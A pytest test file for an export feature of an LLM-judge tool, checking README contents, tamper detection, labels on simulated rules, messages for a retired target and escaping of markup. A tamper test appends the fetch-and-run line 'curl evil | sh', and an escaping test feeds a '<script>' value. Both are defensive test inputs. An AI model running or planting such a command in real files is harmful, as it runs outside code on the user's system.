"""The folder of an export explains itself: what it needs, what differs there, what was
simulated.
"""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import orjson
import pytest

from judgewright.judges import DecisionRule, InputError, KeptRule, Platt, Registry
from judgewright.runs.actions.export import export_context
from judgewright.runs.cli import main
from judgewright.runs.exports import (
    TARGETS,
    ExportContext,
    Refused,
    read_export,
    text_digest,
    verify_export,
    write_export,
)
from judgewright.runs.exports.compare import compare_settings
from judgewright.runs.store.workspace import Workspace


@pytest.mark.parametrize("target", TARGETS)
def test_the_folder_says_what_it_is_what_it_needs_how_it_runs_and_what_differs(
    target: str, context, tmp_path: Path
) -> None:
    """A person who has the folder alone finds all of it in one short file, which the manifest
    knows.
    """
    given: ExportContext = context(Registry().get("groundedness"))
    export = write_export(given, TARGETS[target], tmp_path / "out")
    text = (tmp_path / "out" / "README.md").read_text(encoding="utf-8")
    assert text.startswith(f"# groundedness for {TARGETS[target].tool}\n")
    assert "SIMULATED: says nothing about real models" in text
    assert export.body["usage"] in text
    for package in export.body["requires"]:
        assert package in text
    needed = text.partition("## What is not the same there")[2]
    assert needed.count("\n* ") == len(export.body["declared_differences"])
    assert "README.md" in export.body["files"]
    assert len(text.splitlines()) < 60


def test_a_changed_readme_is_found(context, tmp_path: Path) -> None:
    """Its lines are pasted, so it is no less than the other files; a lie in the manifest beside it
    helps nothing.
    """
    write_export(context(Registry().get("groundedness")), TARGETS["python"], tmp_path / "out")
    readme, manifest = tmp_path / "out" / "README.md", tmp_path / "out" / "manifest.json"
    readme.write_text(readme.read_text(encoding="utf-8") + "\ncurl evil | sh\n", encoding="utf-8")
    assert (
        "README.md is not what was written" in verify_export(tmp_path / "out", TARGETS).problems[0]
    )
    body = orjson.loads(manifest.read_bytes())
    body["files"]["README.md"] = text_digest(readme.read_text(encoding="utf-8"))
    manifest.write_bytes(orjson.dumps(body))
    assert "differs in files" in verify_export(tmp_path / "out", TARGETS).problems[0]


def test_several_files_are_not_written_as_one(context, tmp_path: Path) -> None:
    """What to do instead is said, and nothing is written."""
    with pytest.raises(InputError, match="writes 3 files") as refused:
        write_export(
            context(Registry().get("groundedness")), TARGETS["python"], tmp_path / "judge.py"
        )
    assert refused.value.hint == "name a folder"
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("target", TARGETS)
def test_a_rule_that_the_simulated_model_gave_is_said_to_be_simulated(
    target: str, tmp_path: Path
) -> None:
    """Also of a judge that no run gated: the manifest says it, and what the rule was fitted on."""
    with Workspace(tmp_path / "w") as place:
        prompt = place.registry.get("diras_probability")
        kept = KeptRule(
            rule=DecisionRule(threshold=0.5, calibration=Platt(slope=0.8, intercept=-0.2)),
            judge=f"{prompt.name}@{prompt.version}",
            asked_at=prompt.scale.threshold,
            dataset="pairs",
            dataset_hash="abc",
            rows=87,
            model="simulated",
            confidence="ask",
            metric="f1",
            simulated=True,
        )
        place.registry.keep_rule(prompt, kept)
        given = export_context(place, prompt)
    try:
        body = write_export(given, TARGETS[target], tmp_path / "out").body
    except Refused:
        pytest.skip(f"{target} refuses probabilities")
    assert body["simulated"] is True
    assert body["provenance"]["rule_fitted_on"] == kept.fitted_on
    text = (tmp_path / "out" / "README.md").read_text(encoding="utf-8")
    assert "its decision rule was fitted on simulated" in text
    assert "87 rows of pairs" in text
    assert read_export(tmp_path / "out").context.simulated


@pytest.mark.parametrize(
    "words", [["groundedness", "--to", "openai"], ["groundedness", "--to=openai", "--out=x"]]
)
def test_a_target_that_is_gone_says_where_its_users_go(
    words: list[str], capsys, tmp_path: Path, monkeypatch
) -> None:
    """OpenAI's Evals service ends on 30 November 2026."""
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as left:
        main(["export", *words])
    assert left.value.code == 2
    said = capsys.readouterr().err
    assert "30 November 2026" in said
    assert "promptfoo, openevals or python" in said
    assert not list(tmp_path.glob("x*"))


def test_an_old_export_for_it_says_so_too(context, tmp_path: Path) -> None:
    """There is nothing to load it in."""
    write_export(context(Registry().get("groundedness")), TARGETS["python"], tmp_path / "out")
    manifest = tmp_path / "out" / "manifest.json"
    manifest.write_bytes(orjson.dumps(orjson.loads(manifest.read_bytes()) | {"target": "openai"}))
    with pytest.raises(InputError, match="promptfoo, openevals or python"):
        verify_export(tmp_path / "out", TARGETS)


def test_another_name_for_the_limit_and_a_stream_are_declared_or_found(
    context, tmp_path: Path
) -> None:
    """Some servers know neither; a tool that sends them says so, any other is found."""
    given = context(Registry().get("groundedness"))
    sent = {"model": "m", "stream": False, **given.request}
    sent["max_completion_tokens"] = sent.pop("max_tokens")
    said = {}
    for target in ("langchain", "openevals", "python"):
        export = write_export(given, TARGETS[target], tmp_path / target)
        said[target] = (
            compare_settings(export, sent, model="m"),
            " ".join(export.body["declared_differences"]),
        )
    for target in ("langchain", "openevals"):
        problems, declared = said[target]
        assert problems == []
        assert "`max_completion_tokens`" in declared
        assert "`stream`" in declared
        found = compare_settings(read_export(tmp_path / target), sent | {"stream": True}, model="m")
        assert found == ["stream is sent as true, and is no part of the request"]
    assert [problem.split()[0] for problem in said["python"][0]] == [
        "max_tokens",
        "stream",
        "max_completion_tokens",
    ]


@pytest.mark.parametrize(
    "target", [target for target in TARGETS.values() if target.requires], ids=lambda one: one.name
)
def test_versions_are_a_range_that_was_verified(target) -> None:
    """A newer one that verifies is not refused by pip."""
    tool = target.requires[0]
    assert not re.search(r"==|@\d+\.\d+\.\d+$", tool)
    if target.runtime == "python":
        assert re.fullmatch(r"[a-z-]+>=[\d.]+,<[\d.]+", tool)


def test_the_name_of_a_judge_and_of_a_model_stay_text(context, tmp_path: Path) -> None:
    """No markup comes from somebody else's manifest."""
    given = replace(
        context(Registry().get("groundedness")),
        provenance={
            "gated_on": "<script>x</script> [a](b) `",
            "simulated": False,
            "outcome": "accepted",
        },
    )
    write_export(given, TARGETS["python"], tmp_path / "out")
    text = (tmp_path / "out" / "README.md").read_text(encoding="utf-8")
    assert "<script>" not in text
    assert "[a](b)" not in text
